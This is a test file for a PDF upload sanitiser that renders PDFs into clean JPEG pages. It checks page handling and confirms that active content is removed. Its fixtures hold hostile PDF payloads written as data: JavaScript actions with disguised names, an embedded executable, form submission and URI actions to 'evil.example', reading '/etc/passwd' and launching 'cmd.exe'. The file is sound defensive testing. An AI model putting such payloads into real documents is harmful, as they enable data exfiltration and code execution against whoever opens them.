import { detectFileType } from '@tradefront/rules/uploads/file-type'
import sharp from 'sharp'
import { expect, test } from 'vitest'

import {
  buildPage,
  buildPdf,
  buildStream,
  createLockedPdf,
  createPackedObjectStream,
  createPdfWithPages,
} from '../../../../test/fixtures/documents/hostile-files.ts'
import { createPdf } from '../../../../test/fixtures/documents/upload-files.ts'
import { drawPdf } from './draw-pdf.ts'

const javaScript = '5 0 << /S /JavaScript /JS (app.alert(1)) >>'
const packed = createPackedObjectStream(javaScript)
/** The same PDF with 1,200 spaces in the dictionary. */
const spread = packed.replace('/Type /ObjStm', `/Type /ObjStm${' '.repeat(1200)}`)
const attachment = buildStream('MZ invoice.exe', '').toString('latin1')
const evil = (action: string) => createPdf(`5 0 obj\n<< ${action} >>\nendobj\n`, '', '/OpenAction 5 0 R ')

const active: readonly [string, Buffer][] = [
  ['a script', evil('/S /JavaScript /JS (app.alert(1))')],
  ['a script with a disguised name', evil('/S /J#61va#53cript /J#53 (app.alert(1))')],
  ['a packed script', createPdf(packed)],
  ['a script packed in an object without a type', createPdf(packed.replace('/Type /ObjStm ', ''))],
  ['a script packed behind many spaces', createPdf(spread)],
  ['a script packed behind a comment', createPdf(packed.replace('>>\nstream', '>>%c\nstream'))],
  ['a script packed beside a string that looks like an object', createPdf(packed.replace('/N 1', '/X (7 0 obj) /N 1'))],
  [
    'an attachment without a type',
    buildPage('', '', [
      '<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R >>',
      '<< /F (invoice.exe) /EF << /F 7 0 R >> >>',
      attachment,
    ]),
  ],
  ['a rendition with a script', evil('/S /Rendition /JS (app.alert(1))')],
  ['a form with scripts', evil('/X#46A 6 0 R')],
  ['a form that is sent', evil('/S /SubmitForm /F (http://evil.example)')],
  ['a form that reads a file', evil('/S /ImportData /F (/etc/passwd)')],
  ['a program that is started', evil('/S /Launch /F (cmd.exe)')],
  ['a film with scripts', evil('/Type /Annot /Subtype /RichMedia')],
  ['an embedded file', evil('/Type /EmbeddedFile')],
  ['a list of embedded files', evil('/Names << /EmbeddedFiles 6 0 R >>')],
  ['a way into an embedded file', evil('/S /GoToE /T 6 0 R')],
  ['a way to a file of another computer', evil('/S /GoToR /F (\\\\\\\\host\\\\share)')],
  ['an address that is opened', evil('/S /URI /URI (http://evil.example)')],
  ['an object packed in an unknown way', createPdf(packed.replace('/FlateDecode', '/LZWDecode'))],
]

test.each(active)('a PDF with %s becomes a picture without it', async (_what, bytes) => {
  const drawn = await drawPdf(bytes)
  expect(drawn.kind).toBe('drawn')
  const pages = drawn.kind === 'drawn' ? drawn.pages : []
  expect(pages.map(detectFileType)).toEqual(['image/jpeg'])
  for (const page of pages) {
    expect(page.toString('latin1')).not.toMatch(/JavaScript|alert|evil|invoice|passwd|cmd\.exe|share|obj|%PDF/)
    const { exif, icc, xmp, iptc, comments } = await sharp(page).metadata()
    expect([exif, icc, xmp, iptc, comments]).toEqual(Array.from({ length: 5 }))
  }
})

test('pages are drawn upright, in order, on white, as large as an A4 page at 200 dpi', async () => {
  const page = (media: string, content: number, extra = '') =>
    `<< /Type /Page /Parent 2 0 R /MediaBox ${media} /Contents ${content} 0 R ${extra}>>`
  const drawn = await drawPdf(
    buildPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
      page('[0 0 595 842]', 5),
      page('[0 0 100 50]', 6, '/Rotate 90 '),
      buildStream('1 0 0 rg 0 421 595 421 re f'),
      buildStream('0 0 1 rg 0 0 50 50 re f'),
    ]),
  )
  const pages = drawn.kind === 'drawn' ? drawn.pages : []
  const sizes = await Promise.all(pages.map(async (each) => sharp(each).metadata()))
  expect(sizes.map(({ width, height }) => [width, height])).toEqual([
    [1696, 2400],
    [1200, 2400],
  ])
  const pixel = async (index: number, left: number, top: number) =>
    [...(await sharp(pages[index]).extract({ left, top, width: 1, height: 1 }).raw().toBuffer())].map((value) =>
      Math.round(value / 64),
    )
  expect(await pixel(0, 800, 600)).toEqual([4, 0, 0])
  expect(await pixel(0, 800, 1800)).toEqual([4, 4, 4])
  expect(await pixel(1, 600, 600)).toEqual([0, 0, 4])
  expect(await pixel(1, 600, 1800)).toEqual([4, 4, 4])
})

test.each([
  ['ten pages', createPdfWithPages(10), 'drawn'],
  ['eleven pages', createPdfWithPages(11), 'too_many_pages'],
  ['no pages', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 'unreadable'],
  [
    'pages that contain themselves',
    buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
    'unreadable',
  ],
  [
    'a page without an area',
    Buffer.from(createPdf().toString('latin1').replace('[0 0 200 200]', '[0 0 9999 1]')),
    'unreadable',
  ],
  ['a password', createLockedPdf(), 'locked'],
  ['nothing but its head', Buffer.from('%PDF-1.7\n'), 'unreadable'],
] as const)('a PDF with %s', async (_what, bytes, kind) => {
  expect((await drawPdf(bytes)).kind).toBe(kind)
})
